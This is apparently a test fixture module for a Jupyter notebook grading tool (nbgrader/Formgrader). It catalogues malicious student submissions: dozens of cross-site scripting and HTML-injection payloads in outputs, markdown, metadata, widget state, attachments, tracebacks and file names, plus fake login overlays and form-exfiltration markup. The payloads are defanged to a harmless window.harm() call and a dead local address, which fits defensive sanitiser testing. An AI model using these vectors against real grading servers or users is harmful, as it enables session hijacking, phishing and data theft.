"""Submissions with markup in them that acts in the browser of whoever looks at them.

Each tries to call ``harm()``, to ask for an address with ``/harm/`` in it, or to lead there.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
from support.tiny import cell_of

RUN = "window.harm()"
IMG = f'<img src="none" onerror="{RUN}">'
SCRIPT = f"<script>{RUN}</script>"
AWAY = "http://127.0.0.1:9/harm/"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
)


@dataclass(frozen=True)
class Harm:
    """A submission.

    Attributes
    ----------
    name : str
        Also the student's.
    tries : str
        What it wants.
    code : str
        Of a cell, run by the grader.
    change : callable
        Changes the notebook before it is handed in.
    files : dict
        Name -> text, handed in with it.
    """

    name: str
    tries: str
    code: str = ""
    change: Callable[[Any], None] = field(default=lambda nb: None)
    files: dict[str, str] = field(default_factory=dict)


def _display(name: str, tries: str, data: dict[str, Any], metadata: Any = None) -> Harm:
    code = f"display({data!r}, metadata={metadata or {}!r}, raw=True)"
    return Harm(name, tries, code)


def _html(name: str, tries: str, markup: str) -> Harm:
    return _display(name, tries, {"text/html": f"<b>seen</b>{markup}", "text/plain": "x"})


def _memo(name: str, tries: str, text: str, attachments: Any = None) -> Harm:
    def change(nb: Any) -> None:
        memo = cell_of(nb, "m90-q3-memo")
        memo.source = text
        if attachments:
            memo.attachments = attachments

    return Harm(name, tries, change=change)


def _metadata(name: str, tries: str, **metadata: Any) -> Harm:
    return Harm(name, tries, change=lambda nb: nb.metadata.update(metadata))


def _cell_metadata(nb: Any) -> None:
    cell = cell_of(nb, "tiny-02")
    cell.metadata |= {
        "magics_language": f'"{IMG}',
        "tags": [f'">{IMG}'],
        "raw_mimetype": "text/html",
        "alt": f'">{IMG}',
    }


def _raw(nb: Any) -> None:
    nb.cells.append(
        nbformat.v4.new_raw_cell(
            IMG, metadata={"raw_mimetype": "text/html", "format": "text/html"}, id="raw"
        )
    )


def _label(nb: Any) -> None:
    cell = nbformat.v4.new_code_cell("1", id="labeled")
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": f'">{IMG}',
        "locked": False,
        "points": f'">{IMG}',
        "schema_version": 3,
        "solution": True,
        "task": False,
    }
    nb.cells.append(cell)


def _cell_id(nb: Any) -> None:
    cell_of(nb, "tiny-02").id = f'">{IMG}'


_VIEW = "application/vnd.jupyter.widget-view+json"
_STATE = "application/vnd.jupyter.widget-state+json"
_NOTEBOOK = json.dumps(nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(IMG, id="a")]))

HARMS = [
    _html("script", "runs a script", SCRIPT),
    _html("handler", "runs a handler of an image", IMG),
    _html(
        "handler-details", "runs a handler of a part that opens", f'<details open ontoggle="{RUN}">'
    ),
    _html("handler-media", "runs a handler of a film", f'<video><source onerror="{RUN}"></video>'),
    _html("handler-focus", "runs a handler of a field", f'<input autofocus onfocus="{RUN}">'),
    _html("drawing", "runs a handler of a drawing", f'<svg onload="{RUN}"><rect/></svg>'),
    _html("drawing-script", "runs a script in a drawing", f"<svg><script>{RUN}</script></svg>"),
    _html(
        "formula",
        "hides a handler from parsers",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMG}">',
    ),
    _html("no-script", "hides a handler from parsers", f'<noscript><p title="</noscript>{IMG}">'),
    _html("text-area", "hides a handler from parsers", f"<textarea></textarea\t>{IMG}"),
    _html(
        "frame",
        "runs a script in a frame",
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    ),
    _html(
        "frame-script",
        "runs a script as the address of a frame",
        f'<iframe src="javascript:parent.{RUN}"></iframe>',
    ),
    _html(
        "object", "loads a page into a page", f'<object data="{AWAY}"></object><embed src="{AWAY}">'
    ),
    _html(
        "refresh", "leads to another page", f'<meta http-equiv="refresh" content="0;url={AWAY}">'
    ),
    _html("base", "changes what links lead to", f'<base href="{AWAY}"><a href="a.html">go on</a>'),
    _html(
        "form",
        "sends what is typed",
        f'<form action="{AWAY}"><input name="a"><button>go on</button></form>',
    ),
    _html(
        "link",
        "leads to a script",
        f'<a href="javascript:{RUN}">go on</a><a href=" java\nscript:{RUN}">go on</a>',
    ),
    _html(
        "link-data",
        "names a script as a link of Formgrader",
        f'<a data-link="javascript:{RUN}">go on</a>',
    ),
    _html(
        "link-server",
        "leads to the instructor's server",
        '<a href="/formgrader/?path=/harm/">go on</a><a href="http://localhost:8888/harm/">go on</a>',
    ),
    _html(
        "image-server",
        "asks the instructor's server",
        '<img src="/harm/logout"><img src="../../harm/logout">',
    ),
    _html(
        "image-away", "tells that it was looked at", f'<img src="{AWAY}"><img srcset="{AWAY} 2x">'
    ),
    _html(
        "cover",
        "covers the page",
        '<div class="navbar-fixed-bottom" style="position:fixed;inset:0;background:#fff;z-index:9999">Log in</div>',
    ),
    _html(
        "cover-sheet",
        "covers the page and loads",
        f"<style>@import '{AWAY}';body{{display:none}}.x{{position:fixed;inset:0;background:url({AWAY})}}</style><div class=x>Log in</div>",
    ),
    _html("sheet", "loads a style sheet", f'<link rel="stylesheet" href="{AWAY}">'),
    _html(
        "names",
        "takes the place of the page's own",
        f'<div id="m90-q3-memo" class="score nbgrader_cell" data-toggle="tooltip" title="{RUN}">0</div>',
    ),
    _display("javascript", "runs a script", {"application/javascript": RUN, "text/plain": "x"}),
    _display(
        "isolated",
        "runs a script in a frame",
        {"text/html": f"<script>parent.{RUN}</script>{IMG}"},
        {"text/html": {"isolated": True}},
    ),
    _display(
        "markdown",
        "runs a handler",
        {"text/markdown": f"{IMG} [go on](javascript:{RUN})", "text/plain": "x"},
    ),
    _display("latex", "runs a handler", {"text/latex": f"${IMG}$", "text/plain": "x"}),
    _display(
        "svg",
        "runs a script in a drawing",
        {
            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>"{IMG}',
            "text/plain": "x",
        },
    ),
    _display("mermaid", "runs a handler", {"text/vnd.mermaid": IMG, "text/plain": "x"}),
    _display(
        "widths",
        "runs a handler beside a width",
        {"image/png": PIXEL},
        {"image/png": {"width": f"1 onload={RUN}"}},
    ),
    _display(
        "no-image", "ends the address of an image", {"image/png": f'">{IMG}', "text/plain": "x"}
    ),
    _display(
        "widget",
        "runs a widget",
        {
            _VIEW: {"model_id": f"</script>{SCRIPT}", "version_major": 2, "version_minor": 0},
            "text/plain": "x",
        },
    ),
    Harm(
        "traceback",
        "runs a handler in a traceback",
        f"raise ValueError('\\x1b[31m' + {IMG!r} + '\\x1b]8;;javascript:{RUN}\\x07')",
    ),
    Harm(
        "printed",
        "runs a handler in a text",
        f"print({IMG!r})\nimport sys\nprint({SCRIPT!r}, file=sys.stderr)",
    ),
    _memo("text", "runs a handler", f"seen {IMG}"),
    _memo("text-script", "runs a script", f"seen\n\n{SCRIPT}"),
    _memo(
        "text-link", "leads to a script", f"[go on](javascript:{RUN}) <{AWAY}x.html> [mine](x.html)"
    ),
    _memo(
        "text-image",
        "ends the address of an image",
        f'![a](none"onerror="{RUN})\n\n![" onerror="{RUN}](none)',
    ),
    _memo(
        "attachment",
        "ends the address of an image",
        "![a](attachment:a.png)",
        {"a.png": {f'x" onerror="{RUN}': "AAAA"}},
    ),
    _memo(
        "attachment-name",
        "has an attachment that is none",
        "![a](attachment:a.png)",
        {"a.png": {"image/png": "AAAA"}, "b.png": {}},
    ),
    _metadata(
        "language",
        "runs a handler in a class",
        language_info={"name": f'"{IMG}', "pygments_lexer": f'"{IMG}'},
    ),
    _metadata(
        "title",
        "runs a handler in a title",
        title=f"</title>{IMG}",
        authors=[{"name": IMG}],
        kernelspec={"name": "python3", "display_name": IMG, "language": "python"},
    ),
    _metadata(
        "widgets",
        "runs a widget",
        widgets={
            _STATE: {"state": {"a": f"</script>{SCRIPT}"}, "version_major": 2, "version_minor": 0}
        },
    ),
    Harm("cell-metadata", "runs a handler", "1", change=_cell_metadata),
    Harm("cell-id", "runs a handler", change=_cell_id),
    Harm("label", "runs a handler in a task's name", change=_label),
    Harm("raw-cell", "runs a handler", change=_raw),
    Harm(
        "page",
        "hands in a page as the feedback",
        files={"0.html": SCRIPT, "tiny.html": SCRIPT, "a/tiny.html": SCRIPT},
    ),
    Harm(
        "page-written",
        "writes a page as the feedback",
        f"from pathlib import Path\nPath('0.html').write_text({SCRIPT!r})\nPath('tiny.html').write_text({SCRIPT!r})",
    ),
    Harm(
        "notebook-written",
        "writes a notebook",
        f"from pathlib import Path\nPath('extra.ipynb').write_text({_NOTEBOOK!r})\nPath('<img src=none onerror=window.harm()>.ipynb').write_text('{{}}')",
    ),
    _html("deep-html", "cannot be shown", "<div>" * 3000),
    _html(
        "long-html",
        "takes long to show",
        "<p>" + "".join(f"<b title={n}>" for n in range(400)) + "<p>" * 400,
    ),
]


def write(folder: Path, harm: Harm) -> None:
    """Put what a submission has beside its notebook."""
    for name, text in harm.files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
